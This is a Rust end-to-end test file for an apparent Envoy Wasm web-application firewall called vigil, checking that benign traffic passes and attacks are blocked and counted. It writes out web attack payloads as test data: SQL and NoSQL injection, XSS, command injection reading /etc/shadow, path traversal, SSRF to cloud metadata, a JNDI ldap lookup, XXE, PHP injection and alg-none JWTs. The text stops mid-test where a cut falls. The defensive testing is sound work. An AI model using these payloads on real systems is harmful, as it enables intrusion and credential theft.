//! End-to-end tests of the vigil filter: Envoy (with the shipped `envoy/gateway.yaml`) in
//! front of the demo API, driven with raw HTTP/1.1 requests.
//!
//! Needs Envoy, `target/vigil_filter.wasm` and
//! `target/debug/vigil-demo-api` (`make test` builds and installs all of them).
//!
//! Every test starts its own demo API and Envoy (`--concurrency 1`, so the filter's counters
//! are exact). Stats may lag a request slightly, so they are polled with `wait_until`.

use std::collections::BTreeSet;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::Value;
use vigil_e2e::{wait_until, DemoApi, Envoy, EnvoyConfig, RawRequest, Response};

/// How long to wait for a counter to reach its expected value.
const STATS_TIMEOUT: Duration = Duration::from_secs(5);

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// The demo API with Envoy and the vigil filter in front of it.
struct Gateway {
    envoy: Envoy,
    // Dropped after Envoy (fields drop in declaration order).
    api: DemoApi,
}

impl Gateway {
    /// The built-in default policy (enforce mode).
    fn start() -> Gateway {
        Gateway::start_with(EnvoyConfig::gateway)
    }

    /// `policy` as the plugin configuration.
    fn with_policy(policy: &str) -> Gateway {
        Gateway::start_with(|port| EnvoyConfig::gateway(port).policy_json(policy))
    }

    fn start_with(cfg: impl FnOnce(u16) -> EnvoyConfig) -> Gateway {
        let api = DemoApi::start();
        let envoy = Envoy::start(cfg(api.port())).unwrap_or_else(|e| panic!("{e}"));
        Gateway { envoy, api }
    }

    /// Sends `req` through Envoy; panics (with the request) on a transport error.
    fn send(&self, req: &RawRequest) -> Response {
        self.envoy
            .send(req)
            .unwrap_or_else(|e| panic!("{req:?} through Envoy failed: {e}"))
    }

    /// The vigil counter `wasmcustom.vigil.<name>` (0 if it does not exist yet).
    fn counter(&self, name: &str) -> u64 {
        self.counters(&[name])[0]
    }

    /// Several vigil counters from one stats snapshot. `findings.category.<c>.action.<a>`
    /// is the sum over the severities (`findings.category.<c>.severity.<s>.action.<a>`).
    fn counters(&self, names: &[&str]) -> Vec<u64> {
        let stats = self.envoy.stats();
        let get = |n: &str| {
            stats
                .get(&format!("wasmcustom.vigil.{n}"))
                .copied()
                .unwrap_or(0)
        };
        names
            .iter()
            .map(|n| match n.split_once(".action.") {
                Some((category, action))
                    if n.starts_with("findings.category.") && !n.contains(".severity.") =>
                {
                    ["low", "medium", "high", "critical"]
                        .iter()
                        .map(|s| get(&format!("{category}.severity.{s}.action.{action}")))
                        .sum()
                }
                _ => get(n),
            })
            .collect()
    }

    /// Waits until every `(counter, value)` holds exactly; panics with the actual values.
    fn expect_counters(&self, expected: &[(&str, u64)]) {
        let names: Vec<&str> = expected.iter().map(|&(n, _)| n).collect();
        let values: Vec<u64> = expected.iter().map(|&(_, v)| v).collect();
        if !wait_until(STATS_TIMEOUT, || self.counters(&names) == values) {
            let actual: Vec<(&str, u64)> =
                names.iter().copied().zip(self.counters(&names)).collect();
            panic!("vigil counters: expected {expected:?}, got {actual:?}");
        }
    }

    /// Waits until `n` requests have been decided (allowed, monitored or blocked).
    fn wait_for_decisions(&self, n: u64) {
        let decided = || {
            self.counters(&["requests.allowed", "requests.monitored", "requests.blocked"])
                .iter()
                .sum::<u64>()
        };
        assert!(
            wait_until(STATS_TIMEOUT, || decided() == n),
            "expected {n} decided requests, counters say {}",
            decided()
        );
    }

    /// Asserts that no Wasm VM was reloaded or failed since start-up and that Envoy and the
    /// demo API are alive.
    fn assert_healthy(&self, v8_created_at_start: u64) {
        assert!(self.envoy.is_alive(), "Envoy died");
        assert!(self.api.is_alive(), "demo API died");
        let stats = self.envoy.stats();
        for name in [
            "wasm.vigil.vm_reload",
            "wasm.vigil.vm_reload_success",
            "wasm.vigil.vm_reload_failure",
        ] {
            assert_eq!(
                stats.get(name),
                Some(&0),
                "{name}: a Wasm VM failed and was reloaded"
            );
        }
        assert_eq!(
            stats.get(V8_CREATED),
            Some(&v8_created_at_start),
            "{V8_CREATED} changed: a Wasm VM was re-created"
        );
        let log = self.envoy.log();
        for needle in ["Wasm VM failed", "][critical][", "panicked"] {
            assert!(
                !log.contains(needle),
                "Envoy log contains `{needle}`:\n{}",
                tail(&log, 30)
            );
        }
    }
}

const V8_CREATED: &str = "wasm.envoy.wasm.runtime.v8.created";

fn tail(text: &str, lines: usize) -> String {
    let all: Vec<&str> = text.lines().collect();
    all[all.len().saturating_sub(lines)..].join("\n")
}

/// Checks that `resp` is the filter's block response; returns the rule id, or a description
/// of what is wrong.
fn check_blocked(resp: &Response) -> Result<String, String> {
    if resp.status != 403 {
        return Err(format!("expected 403, got {}", resp.status));
    }
    if resp.header("content-type") != Some("application/json") {
        return Err(format!(
            "content-type {:?}, expected application/json",
            resp.header("content-type")
        ));
    }
    let Some(id) = resp.header("x-vigil-request-id").filter(|v| !v.is_empty()) else {
        return Err("no x-vigil-request-id header".to_string());
    };
    if resp.header("x-upstream-request-id").is_some() {
        return Err("the blocked request reached the upstream".to_string());
    }
    let json: Value = resp
        .try_json()
        .map_err(|e| format!("body is not JSON: {e}"))?;
    let Some(obj) = json.as_object() else {
        return Err(format!("body is not a JSON object: {json}"));
    };
    let keys: BTreeSet<&str> = obj.keys().map(String::as_str).collect();
    if keys != BTreeSet::from(["error", "request_id", "rule"]) {
        return Err(format!(
            "body keys must be exactly error, request_id, rule: {json}"
        ));
    }
    if obj["error"] != "request blocked" {
        return Err(format!("error field: {json}"));
    }
    if obj["request_id"].as_str() != Some(id) {
        return Err(format!("request_id differs from the header {id:?}: {json}"));
    }
    match obj["rule"].as_str() {
        Some(rule) if !rule.is_empty() => Ok(rule.to_string()),
        _ => Err(format!("rule is not a non-empty string: {json}")),
    }
}

/// Asserts `resp` is the block response; returns the rule id.
#[track_caller]
fn assert_blocked(resp: &Response) -> String {
    check_blocked(resp).unwrap_or_else(|e| panic!("{e}: {resp:?}"))
}

/// Checks that `resp` came from the demo API with `status`.
fn check_upstream(resp: &Response, status: u16) -> Result<(), String> {
    if resp.status != status {
        return Err(format!("expected {status}, got {}", resp.status));
    }
    match resp.header("x-upstream-request-id") {
        Some(id) if !id.is_empty() => Ok(()),
        _ => Err("did not reach the upstream with an x-vigil-request-id".to_string()),
    }
}

#[track_caller]
fn assert_upstream(resp: &Response, status: u16) {
    if let Err(e) = check_upstream(resp, status) {
        panic!("{e}: {resp:?}");
    }
}

/// What a case must produce.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Reached the demo API, which answered with this status.
    Upstream(u16),
    /// Blocked, reporting `rule` (an exact rule id, a prefix ending in `-` such as `sqli-`,
    /// or `*` for any), and a blocking finding of `category` was counted.
    Blocked {
        rule: &'static str,
        category: &'static str,
    },
}

/// Blocked by `rule` (exact id, `prefix-`, or `*`) with a finding of `category`.
fn blocked(rule: &'static str, category: &'static str) -> Expect {
    Expect::Blocked { rule, category }
}

fn rule_matches(rule: &str, expected: &str) -> bool {
    if expected == "*" {
        true
    } else if expected.ends_with('-') {
        rule.starts_with(expected)
    } else {
        rule == expected
    }
}

fn findings_counter(category: &str) -> String {
    format!("findings.category.{category}.action.block")
}

/// Sends every case, in order, and panics listing all failures (not just the first).
/// For blocked cases the category's findings counter must grow by the request.
fn check_cases(gw: &Gateway, cases: Vec<(&str, RawRequest, Expect)>) {
    let n = cases.len();
    let mut failures = Vec::new();
    for (i, (name, req, expect)) in cases.into_iter().enumerate() {
        let before = match expect {
            Expect::Blocked { category, .. } => {
                // All earlier requests fully counted (outcomes are counted after findings).
                gw.wait_for_decisions(i as u64);
                Some(gw.counter(&findings_counter(category)))
            }
            Expect::Upstream(_) => None,
        };
        let resp = gw.send(&req);
        let result = match expect {
            Expect::Upstream(status) => check_upstream(&resp, status),
            Expect::Blocked { rule, category } => check_blocked(&resp).and_then(|got| {
                if !rule_matches(&got, rule) {
                    return Err(format!("blocked by `{got}`, expected `{rule}`"));
                }
                let name = findings_counter(category);
                let before = before.unwrap_or_default();
                if wait_until(STATS_TIMEOUT, || gw.counter(&name) > before) {
                    Ok(())
                } else {
                    Err(format!("blocked by `{got}`, but `{name}` did not grow"))
                }
            }),
        };
        if let Err(e) = result {
            failures.push(format!(
                "- {name}: {e}\n    request: {req:?}\n    response: {resp:?}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {n} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Unpadded base64url.
fn b64url(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
        }
    }
    out
}

fn jwt(header: &str, payload: &str, signature: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64url(header.as_bytes()),
        b64url(payload.as_bytes()),
        b64url(signature)
    )
}

/// An HS256-shaped token for alice that expires in an hour.
fn valid_jwt() -> String {
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs());
    jwt(
        r#"{"alg":"HS256","typ":"JWT"}"#,
        &format!(
            r#"{{"sub":"alice","name":"Alice Liddell","iat":{now},"exp":{}}}"#,
            now + 3600
        ),
        &[0x5a; 32],
    )
}

fn multipart(boundary: &str, fields: &[(&str, &str)]) -> RawRequest {
    let mut body = String::new();
    for (name, value) in fields {
        body.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
        ));
    }
    body.push_str(&format!("--{boundary}--\r\n"));
    RawRequest::post("/upload")
        .header(
            "Content-Type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(body)
}

const SQLI_QUOTE: &str = "1%27%20OR%20%271%27%3D%271"; // 1' OR '1'='1

// ---------------------------------------------------------------------------------------
// 1. Benign traffic
// ---------------------------------------------------------------------------------------

#[test]
fn benign_traffic_reaches_the_upstream() {
    let gw = Gateway::start();
    let cases: Vec<(&str, RawRequest, u16)> = vec![
        ("health", RawRequest::get("/health"), 200),
        ("user by id", RawRequest::get("/users/1"), 200),
        ("list users sorted", RawRequest::get("/users?sort=name&order=asc"), 200),
        ("apostrophe in a name", RawRequest::get("/search?q=O%27Brien"), 200),
        ("SQL words in prose", RawRequest::get("/search?q=select%20the%20best%20plan"), 200),
        (
            "unicode search",
            RawRequest::get("/search?q=caf%C3%A9%20%26%20cr%C3%A8me%20br%C3%BBl%C3%A9e"),
            200,
        ),
        ("orders of a user", RawRequest::get("/orders?user_id=1"), 200),
        ("export", RawRequest::get("/export?limit=10"), 200),
        (
            "order with light HTML and markdown in a note",
            RawRequest::post("/orders").json(
                r#"{"item":"Lamp","quantity":2,"note":"Please use <b>bold</b> and **markdown**"}"#,
            ),
            201,
        ),
        (
            "GraphQL-looking comment",
            RawRequest::post("/comments").json(r#"{"query":"query { user(id: 1) { name } }"}"#),
            200,
        ),
        (
            "comment with everyday punctuation",
            RawRequest::post("/comments").json(
                r#"{"text":"Great product -- works with 100% of my files; 5 < 10 & \"quotes\" are fine. Email me: bob@example.com (or call +1-555-0100)."}"#,
            ),
            200,
        ),
        (
            "form login",
            RawRequest::post("/login").form("username=alice&password=wonderland"),
            200,
        ),
        (
            "JSON login",
            RawRequest::post("/login").json(r#"{"username":"alice","password":"wonderland"}"#),
            200,
        ),
        (
            "profile update with an apostrophe",
            RawRequest::put("/users/2")
                .json(r#"{"name":"Bob O'Reilly","email":"bob.oreilly@example.com"}"#),
            200,
        ),
        (
            "normal HS256 JWT",
            RawRequest::get("/users/1").header("Authorization", format!("Bearer {}", valid_jwt())),
            200,
        ),
        (
            "browser-like headers",
            RawRequest::get("/users")
                .header(
                    "User-Agent",
                    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
                )
                .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
                .header("Accept-Language", "en-GB,en;q=0.9,de;q=0.7")
                .header("Referer", "https://shop.example.com/account?tab=orders")
                .header("Cookie", "session=3f2a9c; theme=dark"),
            200,
        ),
        (
            "plain-text upload",
            RawRequest::post("/upload")
                .header("Content-Type", "text/plain")
                .body("Meeting notes: we need to select a venue and update the plan by Friday.\n"),
            200,
        ),
        // The demo API has no such user (404), but the request must pass the filter.
        ("dots in the path", RawRequest::get("/users/1.json"), 404),
    ];
    let n = cases.len();
    check_cases(
        &gw,
        cases
            .into_iter()
            .map(|(name, req, status)| (name, req, Expect::Upstream(status)))
            .collect(),
    );
    gw.expect_counters(&[
        ("requests.inspected", n as u64),
        ("requests.allowed", n as u64),
        ("requests.blocked", 0),
    ]);
}

/// Expiry is judged against the clock the filter's workers keep on their tick: a token an hour
/// past its `exp` is recorded (monitor rule), one valid for another hour passes clean.
#[test]
fn expired_tokens_are_recorded_and_valid_ones_pass() {
    let gw = Gateway::start();
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs());
    let expired = jwt(
        r#"{"alg":"HS256","typ":"JWT"}"#,
        &format!(r#"{{"sub":"alice","exp":{}}}"#, now - 3600),
        &[0x5a; 32],
    );
    let resp =
        gw.send(&RawRequest::get("/users/1").header("Authorization", format!("Bearer {expired}")));
    assert_upstream(&resp, 200);
    let resp = gw.send(
        &RawRequest::get("/users/1").header("Authorization", format!("Bearer {}", valid_jwt())),
    );
    assert_upstream(&resp, 200);
    gw.expect_counters(&[
        ("requests.monitored", 1),
        ("requests.allowed", 1),
        ("findings.category.protocol.severity.low.action.monitor", 1),
    ]);
}

// ---------------------------------------------------------------------------------------
// 2. Attack classes in the URL and headers, and evasions
// ---------------------------------------------------------------------------------------

#[test]
fn attacks_are_blocked_with_a_minimal_json_answer() {
    let gw = Gateway::start();
    let alg_none = jwt(r#"{"alg":"none","typ":"JWT"}"#, r#"{"sub":"alice"}"#, b"");
    assert_eq!(
        alg_none,
        "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhbGljZSJ9."
    );
    let cases: Vec<(&str, RawRequest, Expect)> = vec![
        (
            "sqli: quote boolean",
            RawRequest::get(format!("/search?q={SQLI_QUOTE}")),
            blocked("sqli-quote-boolean", "sqli"),
        ),
        (
            "sqli: union select",
            RawRequest::get(
                "/search?q=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--",
            ),
            blocked("sqli-", "sqli"),
        ),
        (
            "xss: script tag",
            RawRequest::get("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
            blocked("xss-script-tag", "xss"),
        ),
        (
            "xss: event handler",
            RawRequest::get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
            blocked("xss-", "xss"),
        ),
        (
            "cmdi: chained command",
            RawRequest::get("/search?q=example.com%3B%20whoami"),
            blocked("cmdi-shell-syntax", "cmdi"),
        ),
        (
            "traversal in the query",
            RawRequest::get("/search?q=..%2F..%2F..%2Fetc%2Fpasswd"),
            blocked("traversal-", "path_traversal"),
        ),
        (
            "traversal in the path",
            RawRequest::get("/users/..%2f..%2f..%2fetc%2fpasswd"),
            blocked("traversal-", "path_traversal"),
        ),
        (
            "ssrf: cloud metadata endpoint",
            RawRequest::get("/search?url=http://169.254.169.254/latest/meta-data/"),
            blocked("ssrf-metadata-endpoint", "ssrf"),
        ),
        (
            "ssrf: encoded metadata endpoint",
            RawRequest::get("/search?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
            blocked("ssrf-metadata-endpoint", "ssrf"),
        ),
        // The payload also contains an `ldap://` URL, so the reported rule may be an SSRF
        // one; the JNDI finding must be counted either way.
        (
            "jndi lookup in user-agent",
            RawRequest::get("/users/1").header("User-Agent", "${jndi:ldap://x.example/a}"),
            blocked("*", "jndi"),
        ),
        (
            "scanner user-agent",
            RawRequest::get("/users/1").header("User-Agent", "sqlmap/1.7"),
            blocked("scanner-user-agent", "scanner"),
        ),
        (
            "nosqli: operator in query parameter name",
            RawRequest::get("/users?username[$ne]=x"),
            blocked("nosqli-", "nosqli"),
        ),
        (
            "ssti: expression",
            RawRequest::get("/search?q=%7B%7B7*7%7D%7D"),
            blocked("ssti-expression", "ssti"),
        ),
        (
            "php code injection",
            RawRequest::get("/search?q=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"),
            blocked("code-php", "code_injection"),
        ),
        (
            "ldap filter injection",
            RawRequest::get("/search?user=*)(uid%3D*))(%7C(uid%3D*"),
            blocked("ldapi-filter-injection", "ldapi"),
        ),
        (
            "jwt alg none",
            RawRequest::get("/users/1").header("Authorization", format!("Bearer {alg_none}")),
            blocked("jwt-alg-none", "protocol"),
        ),
        (
            "evasion: double percent-encoding",
            RawRequest::get("/search?q=%2527%2520or%25201%253D1"),
            blocked("sqli-", "sqli"),
        ),
        (
            "evasion: mixed case tag",
            RawRequest::get("/search?q=%3CScRiPt%3Ealert(1)%3C%2FsCrIpT%3E"),
            blocked("xss-script-tag", "xss"),
        ),
        (
            "evasion: SQL comments as whitespace",
            RawRequest::get("/search?q=1%20UNION/**/SELECT/**/password/**/FROM/**/users"),
            blocked("sqli-", "sqli"),
        ),
        (
            "evasion: unicode escapes in JSON",
            RawRequest::post("/comments")
                .json(r#"{"text":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
            blocked("xss-script-tag", "xss"),
        ),
    ];
    let m = cases.len() as u64;
    check_cases(&gw, cases);
    gw.expect_counters(&[("requests.inspected", m), ("requests.blocked", m)]);
}

// ---------------------------------------------------------------------------------------
// 3. Attacks in bodies
// ---------------------------------------------------------------------------------------

#[test]
fn attacks_in_bodies_are_blocked() {
    let gw = Gateway::start();
    let cases: Vec<(&str, RawRequest, Expect)> = vec![
        // Benign controls on the same routes and content types.
        (
            "benign JSON order",
            RawRequest::post("/orders")
                .json(r#"{"item":"Lamp","meta":{"tags":["gift","fragile"],"notes":["ring twice"]}}"#),
            Expect::Upstream(201),
        ),
        (
            "benign multipart",
            multipart("XyZ123", &[("title", "holiday photos"), ("comment", "nice <b>view</b>")]),
            Expect::Upstream(200),
        ),
        (
            "benign chunked JSON",
            RawRequest::post("/comments")
                .header("Content-Type", "application/json")
                .chunked([r#"{"text":"hello "#, r#"chunked "#, r#"world"}"#]),
            Expect::Upstream(200),
        ),
        (
            "sqli in a nested JSON value",
            RawRequest::post("/orders")
                .json(r#"{"item":"Lamp","meta":{"tags":["gift"],"notes":["ok","1' OR '1'='1"]}}"#),
            blocked("sqli-", "sqli"),
        ),
        (
            "nosqli operator keys in a JSON login",
            RawRequest::post("/login")
                .json(r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#),
            blocked("nosqli-operator-key", "nosqli"),
        ),
        (
            "nosqli operator key nested deeper",
            RawRequest::post("/orders").json(r#"{"filter":{"user":{"name":{"$where":"sleep(5000)"}}}}"#),
            blocked("nosqli-", "nosqli"),
        ),
        (
            "sqli in a form field",
            RawRequest::post("/login").form("username=admin%27%20OR%20%271%27%3D%271&password=x"),
            blocked("sqli-", "sqli"),
        ),
        (
            "xss in a form field with + for spaces",
            RawRequest::post("/comments").form("text=hello+%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            blocked("xss-script-tag", "xss"),
        ),
        (
            "xxe external entity",
            RawRequest::post("/upload")
                .header("Content-Type", "application/xml")
                .body(r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#),
            blocked("xxe-entity-declaration", "xxe"),
        ),
        (
            "xss in a multipart field",
            multipart(
                "XyZ123",
                &[("title", "holiday photos"), ("comment", "<script>alert(document.domain)</script>")],
            ),
            blocked("xss-script-tag", "xss"),
        ),
        (
            "cmdi in a chunked JSON body, split inside the payload",
            RawRequest::post("/comments")
                .header("Content-Type", "application/json")
                .chunked([r#"{"text":"ok; cat /e"#, r#"tc/shadow", "#, r#""n":1}"#]),
            blocked("*", "cmdi"),
        ),
        (
            "xss in a chunked form body, split inside the tag",
            RawRequest::post("/comments")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .chunked(["text=%3Cscr", "ipt%3Ealert(1)%3C%2Fscr", "ipt%3E"]),
            blocked("xss-script-tag", "xss"),
        ),
    ];
    check_cases(&gw, cases);
}

#[test]
fn bodies_are_inspected_up_to_the_limit() {
    let gw = Gateway::start();
    // 200 KiB benign: passes uninspected past 64 KiB, and the truncation is counted.
    let benign = vec![b'a'; 200 * 1024];
    let resp = gw.send(
        &RawRequest::post("/upload")
            .header("Content-Type", "application/octet-stream")
            .body(benign),
    );
    assert_upstream(&resp, 200);
    assert_eq!(resp.json()["bytes"], 200 * 1024, "{resp:?}");
    gw.expect_counters(&[
        ("requests.inspected", 1),
        ("requests.body_truncated", 1),
        ("requests.allowed", 1),
    ]);

    // The same with chunked framing.
    let resp = gw.send(
        &RawRequest::post("/upload")
            .header("Content-Type", "application/octet-stream")
            .chunked(vec![vec![b'b'; 16 * 1024]; 13]),
    );
    assert_upstream(&resp, 200);
    assert_eq!(resp.json()["bytes"], 13 * 16 * 1024, "{resp:?}");
    gw.expect_counters(&[("requests.inspected", 2), ("requests.body_truncated", 2)]);

    // An attack in the first KiB of an oversized body is still found.
    let mut body = b"text=1%27%20OR%20%271%27%3D%271&pad=".to_vec();
    body.resize(200 * 1024, b'a');
    let resp = gw.send(&RawRequest::post("/comments").form(&String::from_utf8(body).unwrap()));
    assert_eq!(assert_blocked(&resp), "sqli-quote-boolean");
    gw.expect_counters(&[("requests.inspected", 3), ("requests.blocked", 1)]);

    // An attack well inside the limit but after 60 KiB of padding is found too.
    let mut body = "pad=".to_string();
    body.push_str(&"a".repeat(60 * 1024));
    body.push_str("&text=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let resp = gw.send(&RawRequest::post("/comments").form(&body));
    assert_eq!(assert_blocked(&resp), "xss-script-tag");
}

/// A smaller `limits.body_bytes` moves the inspection window.
#[test]
fn body_limit_comes_from_the_policy() {
    let gw = Gateway::with_policy(r#"{"limits":{"body_bytes":1024}}"#);
    let mut body = "pad=".to_string();
    body.push_str(&"a".repeat(2000));
    body.push_str("&text=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let resp = gw.send(&RawRequest::post("/comments").form(&body));
    assert_upstream(&resp, 200);
    gw.expect_counters(&[("requests.inspected", 1), ("requests.body_truncated", 1)]);
    let resp =
        gw.send(&RawRequest::post("/comments").form("text=%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
    assert_eq!(assert_blocked(&resp), "xss-script-tag");
}

// ---------------------------------------------------------------------------------------
// 4. Monitor mode
// ---------------------------------------------------------------------------------------

#[test]
fn monitor_mode_passes_attacks_and_counts_them() {
    let gw = Gateway::with_policy(r#"{"mode":"monitor"}"#);
    let attacks = [
        RawRequest::get(format!("/search?q={SQLI_QUOTE}")),
        RawRequest::get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        RawRequest::post("/login")
            .json(r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#),
    ];
    for req in &attacks {
        let resp = gw.send(req);
        // The login fails upstream (401), but it got there.
        let status = if req.method == "POST" { 401 } else { 200 };
        assert_upstream(&resp, status);
    }
    assert_upstream(&gw.send(&RawRequest::get("/users/1")), 200);
    gw.expect_counters(&[
        ("requests.inspected", 4),
        ("requests.monitored", 3),
        ("requests.would_block", 3),
        ("requests.allowed", 1),
        ("requests.blocked", 0),
    ]);
    assert!(gw.counter(&findings_counter("sqli")) >= 1);
    assert!(gw.counter(&findings_counter("xss")) >= 1);
    assert!(gw.counter(&findings_counter("nosqli")) >= 1);
}

/// A pack switched to `monitor` records its findings without blocking, while other packs
/// still block.
#[test]
fn pack_action_monitor_records_without_blocking() {
    let gw = Gateway::with_policy(r#"{"packs":{"xss":{"action":"monitor"}}}"#);
    let resp = gw.send(&RawRequest::get(
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ));
    assert_upstream(&resp, 200);
    gw.expect_counters(&[("requests.monitored", 1), ("requests.blocked", 0)]);
    assert!(gw.counter("findings.category.xss.action.monitor") >= 1);
    assert_eq!(gw.counter("findings.category.xss.action.block"), 0);
    let resp = gw.send(&RawRequest::get(format!("/search?q={SQLI_QUOTE}")));
    assert_eq!(assert_blocked(&resp), "sqli-quote-boolean");
}

// ---------------------------------------------------------------------------------------
// 5. Stats
// ---------------------------------------------------------------------------------------

/// The value of the Prometheus sample whose name and labels are exactly `series`.
fn prometheus_value(text: &str, series: &str) -> Option<f64> {
    text.lines().filter(|l| !l.starts_with('#')).find_map(|l| {
        l.strip_prefix(series)?
            .strip_prefix(' ')?
            .trim()
            .parse()
            .ok()
    })
}

#[test]
fn stats_count_requests_and_label_findings() {
    let gw = Gateway::start();
    let benign = [
        RawRequest::get("/users/1"),
        RawRequest::get("/search?q=O%27Brien"),
        RawRequest::get("/health"),
        RawRequest::post("/comments").json(r#"{"text":"hello"}"#),
        RawRequest::get("/orders"),
    ];
    let attacks = [
        RawRequest::get(format!("/search?q={SQLI_QUOTE}")),
        RawRequest::get("/search?q=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users"),
        RawRequest::get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ];
    for req in &benign {
        assert_eq!(gw.send(req).status, 200, "{req:?}");
    }
    for req in &attacks {
        assert_blocked(&gw.send(req));
    }
    let (n, m) = (benign.len() as u64, attacks.len() as u64);
    gw.expect_counters(&[
        ("requests.inspected", n + m),
        ("requests.allowed", n),
        ("requests.blocked", m),
        ("requests.monitored", 0),
        ("requests.would_block", 0),
        ("requests.body_truncated", 0),
    ]);
    assert!(gw.counter(&findings_counter("sqli")) >= 2);
    assert!(gw.counter(&findings_counter("xss")) >= 1);
    assert_eq!(gw.counter(&findings_counter("ssrf")), 0);

    // The plain-text admin output has every documented name.
    let text = gw.envoy.admin("/stats").unwrap().body_str();
    let names: BTreeSet<&str> = text
        .lines()
        .filter_map(|l| l.split_once(": ").map(|(name, _)| name))
        .collect();
    let mut expected: Vec<String> = [
        "inspected",
        "allowed",
        "blocked",
        "monitored",
        "would_block",
        "body_truncated",
    ]
    .iter()
    .map(|c| format!("wasmcustom.vigil.requests.{c}"))
    .collect();
    for category in [
        "sqli",
        "xss",
        "nosqli",
        "cmdi",
        "path_traversal",
        "ssrf",
        "auth",
    ] {
        for severity in ["low", "medium", "high", "critical"] {
            for action in ["block", "monitor"] {
                expected.push(format!(
                    "wasmcustom.vigil.findings.category.{category}.severity.{severity}.action.{action}"
                ));
            }
        }
    }
    for name in &expected {
        assert!(names.contains(name.as_str()), "/stats lacks {name}");
    }
    assert!(text.contains(&format!("wasmcustom.vigil.requests.blocked: {m}\n")));

    // Prometheus: the stats_tags turn name parts into labels.
    let prom = gw.envoy.stats_prometheus();
    assert_eq!(
        prometheus_value(&prom, "vigil_requests_blocked{}"),
        Some(m as f64),
        "{}",
        vigil_lines(&prom)
    );
    let sqli = prometheus_value(
        &prom,
        r#"vigil_findings{category="sqli",severity="critical",action="block"}"#,
    );
    assert!(
        sqli.is_some_and(|v| v >= 2.0),
        "sqli findings: {sqli:?}\n{}",
        vigil_lines(&prom)
    );
    assert_eq!(
        prometheus_value(
            &prom,
            r#"vigil_findings{category="ssrf",severity="critical",action="block"}"#
        ),
        Some(0.0)
    );
    assert!(
        !prom.contains("vigil_findings_category_") && !prom.contains("vigil_findings_action"),
        "finding names were not turned into labels:\n{}",
        vigil_lines(&prom)
    );
}

fn vigil_lines(prom: &str) -> String {
    prom.lines()
        .filter(|l| l.contains("vigil"))
        .collect::<Vec<_>>()
        .join("\n")
}

// ---------------------------------------------------------------------------------------
// 6. Hostile requests
// ---------------------------------------------------------------------------------------

#[test]
fn hostile_requests_do_not_break_the_gateway() {
    let gw = Gateway::start();
    let v8_created = gw
        .envoy
        .stat(V8_CREATED)
        .unwrap_or_else(|| panic!("no {V8_CREATED} stat"));
    assert_eq!(gw.envoy.stat("wasm.vigil.vm_reload"), Some(0));

    let deep_json = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_object = format!("{}1{}", r#"{"a":"#.repeat(5_000), "}".repeat(5_000));
    let many_params: String = (0..500)
        .map(|i| format!("p{i}=v{i}"))
        .collect::<Vec<_>>()
        .join("&");
    // 100 headers in all with Host and Connection (Envoy's default limit is 100).
    let mut many_headers = RawRequest::get("/users/1");
    for i in 0..98 {
        many_headers = many_headers.header(&format!("x-custom-{i}"), format!("value-{i}"));
    }
    // What each may get: blocked, passed (the demo API's status), or refused by Envoy's codec
    // (400/413/431). Never a 5xx, a reset or a hang.
    let cases: Vec<(&str, RawRequest, &[u16])> = vec![
        (
            "50 KiB header value",
            RawRequest::get("/users/1").header("x-big", "a".repeat(50 * 1024)),
            &[200, 403],
        ),
        (
            "invalid UTF-8, percent-encoded",
            RawRequest::get("/search?q=%ff%fe%c0%af"),
            &[200, 403],
        ),
        (
            "overlong UTF-8 slash in the path",
            RawRequest::get("/users/%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
            &[403, 404],
        ),
        (
            "raw 0x80 byte in a header value",
            RawRequest::get("/users/1").header("x-raw", b"abc\x80def".as_slice()),
            &[200, 400, 403],
        ),
        (
            "raw 0xff bytes in the query",
            RawRequest::get(b"/search?q=\xff\xfe".as_slice()),
            &[200, 400, 403],
        ),
        (
            "10,000-deep JSON array",
            RawRequest::post("/comments").json(&deep_json),
            &[200, 403],
        ),
        (
            "5,000-deep JSON object",
            RawRequest::post("/orders").json(&deep_object),
            &[201, 400, 403],
        ),
        (
